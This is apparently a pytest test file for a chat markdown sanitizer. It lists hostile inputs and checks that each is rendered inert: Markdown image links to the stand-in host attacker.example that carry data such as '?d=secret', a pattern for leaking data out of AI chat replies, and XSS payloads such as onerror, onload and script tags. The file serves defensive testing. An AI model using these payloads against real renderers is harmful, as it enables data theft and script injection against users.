"""Markdown that loads nothing by itself: checked by rendering the result with a real renderer
(markdown-it-py, raw HTML on, as in the Markdown viewers an export is opened in)."""

from __future__ import annotations

import re

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from chat_core.markdown_safety import HELD_BACK, blunt, literal, safe_markdown, safe_streaming

VIEWER = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"])
PAGE = MarkdownIt("commonmark", {"html": False}).enable(["table", "strikethrough"])
LIVE_TAG = re.compile(r"<(?!/?(?:p|em|strong|code|pre|a|blockquote|ul|ol|li|h\d|hr|br|table|thead|tbody|tr|th|td|s|del)\b"
                      r"|img src=\"data:)[a-zA-Z!?/]", re.IGNORECASE)

HOSTILE = [
    "![x](http://attacker.example/leak?d=secret)",
    "![x][r]\n\n[r]: http://attacker.example/ref",
    "![x]\n\n[x]: <http://attacker.example/short> \"title\"",
    "[![inner](http://attacker.example/in)](http://example.org)",
    "> quoted ![a\nb](http://attacker.example/q)",
    "- item\n\n  ![x](http://attacker.example/list)",
    "| a | b |\n|---|---|\n| ![x](http://attacker.example/cell) | ![y](http://attacker.example/cell) |",
    "!![x](http://attacker.example/bang)",
    "# ![x](//attacker.example/proto-relative)",
    "![x](HTTP://ATTACKER.EXAMPLE/upper)",
    "![x](javascript:alert(1))",
    "![![x](http://attacker.example/nested)](http://attacker.example/outer)",
    "`code` ![x](http://attacker.example/after-code)",
    "![x](<http://attacker.example/a b>)",
]
HOSTILE_HTML = [
    "~~~ <img src=x onerror=alert(1)>",
    "text ~~~ and <img src=x onerror=alert(1)>",
    "\\` <img src=x onerror=alert(1)> `",
    "mid ``` line <img src=x onerror=alert(1)>",
    "<div onclick=alert(1)>\n\n*still html*\n</div>",
    "<script>\nalert(1)\n\n</script>",
    "<!-- comment --> <svg onload=alert(1)>",
    "> <img src=x onerror=alert(1)>",
    "- <img src=x onerror=alert(1)>",
    "    indented\n<img src=x onerror=alert(1)>",
    "<a href=\"![x](http://attacker.example/in-html)\">",
    "<style>body{background:url(http://attacker.example/css)}</style>",
    "x <a title='<img src=x onerror=alert(1)>'>y</a>",
    "&lt;img&gt; stays &amp; as typed <b>bold?</b>",
    "<img src=x onerror=alert(1)\n>",
]


def assert_inert(html: str) -> None:
    assert "attacker.example" not in re.sub(r'<a href="[^"]*"', "<a", html).split("<img")[0] or "<img" not in html
    assert not re.search(r"<img[^>]*src=\"(?!data:)", html), html
    assert not LIVE_TAG.search(html), html
    assert not re.search(r"<[^>]*\son\w+=", html), html


@pytest.mark.parametrize("text", HOSTILE)
def test_remote_images_become_links_naming_their_host(text):
    for html in (False, True):
        shown = safe_markdown(text, html=html)
        assert_inert((VIEWER if html else PAGE).render(shown))
    rendered = PAGE.render(safe_markdown(text))
    if "attacker.example" in text and "javascript" not in text:
        assert re.search(r'<a href="[^"]*attacker\.example', rendered), rendered  # still one click away
        assert "attacker.example" in re.sub(r"<[^>]+>", "", rendered)  # the host is named in the text


@pytest.mark.parametrize("text", HOSTILE_HTML)
def test_raw_html_is_escaped_where_a_viewer_would_run_it(text):
    rendered = VIEWER.render(safe_markdown(text, html=True))
    assert_inert(rendered)


def test_what_is_not_markup_stays_as_written():
    text = ("Some **bold**, `<img src=x>` in code, a [link](https://example.org), <https://example.org>,\n\n"
            "```html\n<img src=x onerror=alert(1)>\n![x](http://attacker.example/in-code)\n```\n\n"
            "    ![x](http://attacker.example/indented-code)\n\n"
            "2 < 3 & 4 > 1, ![inline data](data:image/png;base64,iVBORw0KGgo=)")
    assert safe_markdown(text) == text
    assert safe_markdown(text, html=True) == text


def test_exact_output_of_one_image():
    assert safe_markdown("see ![a chart](https://img.example.com/c.png?d=1 \"t\")") == (
        "see 🖼 [a chart (img\\.example\\.com)](<https://img.example.com/c.png?d=1>)")
    assert safe_markdown("<b>x</b>", html=True) == "&lt;b>x&lt;/b>"
    assert safe_markdown("<b>x</b>") == "<b>x</b>"  # Streamlit shows raw HTML as text by itself


def test_blunt_fallback_is_inert_and_idempotent_rewrites():
    hostile = "\n".join(HOSTILE + HOSTILE_HTML)
    assert_inert(VIEWER.render(blunt(hostile, html=True)))
    once = safe_markdown(hostile, html=True)
    assert safe_markdown(once, html=True) == once


PIECES = list("![]()<>`~\\ \n:/ax>-*|&\"'=") + ["http://h.example/", "img ", "onerror=", "```", "~~~", "    "]
MARKUP = st.lists(st.sampled_from(PIECES), max_size=40).map("".join)


@settings(max_examples=300, deadline=None)
@given(MARKUP)
def test_nothing_generated_stays_live(text):
    assert_inert(VIEWER.render(safe_markdown(text, html=True)))
    assert_inert(PAGE.render(safe_markdown(text)))


def test_literal_text_shows_as_written_and_links_nothing():
    title = "**x** [l](http://h.example/p) www.h.example a@h.example 1. # <b> :red[x] :material/home: $x$"
    shown = literal(title)
    assert "://" not in shown.replace("\\", "") and "www." not in shown.replace("\\", "").lower()
    rendered = PAGE.render(shown)
    assert rendered == f"<p>{title.replace('<', '&lt;').replace('>', '&gt;')}</p>\n".replace(
        "://", ":\u2060//").replace("www.", "www\u2060.").replace("@", "\u2060@")


def test_an_image_still_being_written_is_held_back_while_it_streams():
    # What a renderer that completes unclosed Markdown would draw as an image is left out until it closes.
    assert safe_streaming("Look ![chart](http://attacker.example/leak?d=sec") == "Look "
    assert safe_streaming("Look ![cha") == "Look "
    whole = "Look ![chart](http://attacker.example/leak?d=secret) and more"
    assert safe_streaming(whole) == safe_markdown(whole)  # closed: shown as its link
    assert safe_streaming(whole + " ![next](http") == safe_markdown(whole + " ")
    for text in ["plain text", "a ! [not an image", "`code`", "x" * 5000]:
        assert safe_streaming(text) == safe_markdown(text)
    long = "![x](http://attacker.example/" + "a" * HELD_BACK  # never closed: not held back for ever
    assert safe_streaming(long) == safe_markdown(long)
